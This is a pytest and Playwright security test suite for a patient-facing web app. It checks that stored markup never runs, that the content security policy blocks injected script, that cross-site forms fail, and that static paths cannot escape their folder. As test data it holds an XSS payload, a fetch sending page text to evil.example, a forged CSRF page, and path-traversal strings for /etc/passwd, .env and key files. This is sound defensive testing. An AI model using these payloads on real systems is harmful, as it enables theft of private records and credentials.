"""A record full of markup on every page that shows it, in a real browser whose content security policy is switched off;
then the policy alone; another site's page that sends our forms; and paths that climb, on the real server."""

from __future__ import annotations

from collections.abc import Callable
from http.client import HTTPConnection
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Error, Page, expect

from tests.journeys.addresses import PAGES
from tests.journeys.conftest import NewPage
from tests.journeys.person import Someone
from tests.journeys.site import Site

pytestmark = [pytest.mark.browser, pytest.mark.attack]

HOSTILE = "\"'><img src=x onerror=zq7()><svg onload=zq7()>"
WRITES = (
    "/mood/",
    "/exercises/new/thought-record/",
    "/talk/",
    "/settings/contact/",
    "/programme/practice/the-circle/circle-practice/",
    "/programme/step/the-circle/welcome/other-way/",
    "/programme/module/the-circle/rate/",
    "/my-rights/ask/correction/",
    "/care/mandate/",
    "/complaint/",
)
"""Where a patient writes."""
LOOK = ("therese", "claire", "sacha", "omar", "helene", "admin")
_STRAY = "() => document.querySelectorAll('img[src=x], [onload], [onerror], [onmouseover]').length"
_RAN = "zq7 ran"
_EVIL = "http://evil.example"


class Watched(Someone):
    """Somebody whose browser tells when a script of an attacker's ran, a dialog opened or a request left the site."""

    def __init__(self, page: Page, here: str) -> None:
        super().__init__(page)
        self.alarms: list[str] = []
        page.add_init_script(f"window.zq7 = () => console.error('{_RAN}')")
        page.on("console", lambda said: self._heard(_RAN in said.text, said.text))
        page.on("dialog", lambda dialog: (self._heard(True, dialog.message), dialog.dismiss()))
        page.on("request", lambda asked: self._heard(not asked.url.startswith((here, "data:", "blob:")), asked.url))

    def _heard(self, is_alarm: bool, what: str) -> None:
        if is_alarm:
            self.alarms.append(f"{self.page.url}: {what}")

    def look(self) -> None:
        """Nothing on this page came from markup that somebody typed."""
        if self.page.evaluate(_STRAY):
            self.alarms.append(f"{self.page.url}: markup")


@pytest.fixture
def watched(new_page: NewPage, site: Site) -> Callable[..., Watched]:
    """`watched(name)`: signed in, and nothing but the pages themselves in an attacker's way."""

    def opened(name: str = "", **wishes: object) -> Watched:
        person = Watched(new_page(**({"bypass_csp": True} | wishes)), site.address)
        if name:
            person.sign_in(name)
        return person

    return opened


def test_a_script_that_ran_would_be_heard(watched: Callable[..., Watched]) -> None:
    somebody = watched()
    somebody.go("/help/")
    somebody.page.evaluate("words => document.querySelector('main').innerHTML = words", f"<p>{HOSTILE}</p>")
    somebody.look()
    expect(somebody.page.locator("main img")).to_have_count(1)
    somebody.page.wait_for_timeout(200)
    assert any(_RAN in alarm for alarm in somebody.alarms)
    assert any(alarm.endswith(": markup") for alarm in somebody.alarms)


def test_a_record_full_of_markup_runs_on_no_page_of_anybody(watched: Callable[..., Watched]) -> None:
    therese = watched("therese")
    for path in WRITES:
        therese.go(path)
        therese.fill_what_is_there(HOSTILE)
        therese.send()
        therese.look()
    therese.go("/settings/")
    therese.page.fill("input[name=called]", HOSTILE)
    therese.send()
    assert len(therese.wrote) >= 6
    people = [therese, *(watched(name) for name in LOOK[1:])]
    for name, person in zip(LOOK, people, strict=True):
        for _name, address in PAGES[name]:
            person.open(address)
            person.look()
    claire = people[1]
    claire.go("/desk/")
    claire.page.locator("main tbody a", has_text="zq7").first.click()
    expect(claire.page.locator("main")).to_contain_text("onerror=zq7()")
    claire.look()
    assert [alarm for person in people for alarm in person.alarms] == []


def test_markup_that_got_in_all_the_same_could_do_nothing(watched: Callable[..., Watched], site: Site) -> None:
    therese = watched("therese", bypass_csp=False)
    therese.go("/today/")
    assert therese.page.evaluate("document.cookie") == ""
    for attempt in (
        "() => { document.querySelector('main').innerHTML = '<b>x</b>' }",
        f"() => fetch('{_EVIL}/?' + document.body.innerText)",
        "() => { const one = document.createElement('script'); one.text = 'zq7()'; document.body.append(one) }",
        "() => document.querySelector('main').setAttribute('onclick', 'zq7()')",
    ):
        with pytest.raises(Error):
            therese.page.evaluate(attempt)
    therese.page.evaluate(
        """evil => {
            const image = document.createElement('img');
            image.src = evil + '/steal.png';
            const form = document.createElement('form');
            form.action = evil + '/steal';
            document.body.append(image, form);
            form.submit();
        }""",
        _EVIL,
    )
    therese.page.wait_for_timeout(500)
    assert therese.page.url.startswith(site.address)
    assert not any(_RAN in alarm for alarm in therese.alarms)


def test_another_site_s_page_sends_no_form_of_ours_and_shows_no_page_of_ours(
    watched: Callable[..., Watched], site: Site
) -> None:
    therese = watched("therese", bypass_csp=False)
    therese.go("/settings/")
    called = therese.page.input_value("input[name=called]")
    trap = f"""<!doctype html><title>x</title><iframe src="{site.address}/today/"></iframe>
        <form method="post" action="{site.address}/settings/"><input name="called" value="zq7">
        <input name="language" value="fr"><input name="text_size" value="100"><input name="theme" value="AUTO">
        <input name="time_zone" value="Europe/Paris"></form>"""
    therese.page.route(f"{_EVIL}/**", lambda route: route.fulfill(body=trap, content_type="text/html"))
    therese.page.goto(f"{_EVIL}/")
    frame = therese.page.frames[1]
    assert not frame.locator(".step-card").count()
    therese.page.evaluate("document.querySelector('form').submit()")
    expect(therese.page).to_have_url(f"{site.address}/settings/")
    therese.go("/settings/")
    assert therese.page.input_value("input[name=called]") == called != "zq7"


CLIMBING = (
    "/static/../../../../../../etc/passwd",
    "/static/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/static/..%5c..%5cmaster.key",
    "/static/../master.key",
    "/static/%2e%2e%2fmaster.key",
    "/static/..%252fmaster.key",
    "/static//etc/passwd",
    "/static/design/../../secret",
    "/static/%00",
    "/static/../accalmie.sqlite3",
    "/../accalmie.sqlite3",
    "//etc/passwd",
    "/static",
    "/static/",
    "/static/design/",
    "/.git/config",
    "/.env",
)


def test_no_path_climbs_out_of_the_folder_of_static_files(site: Site) -> None:
    secrets = [(site.data / name).read_bytes()[:32] for name in ("master.key", "secret")]
    place = urlsplit(site.address)
    for path in CLIMBING:
        asked = HTTPConnection(str(place.hostname), place.port, timeout=15)
        asked.putrequest("GET", path, skip_accept_encoding=True)
        asked.endheaders()
        answer = asked.getresponse()
        body = answer.read()
        assert answer.status in (302, 400, 404), path
        assert not any(secret in body for secret in (*secrets, b"root:", b"SQLite format 3")), path
        asked.close()
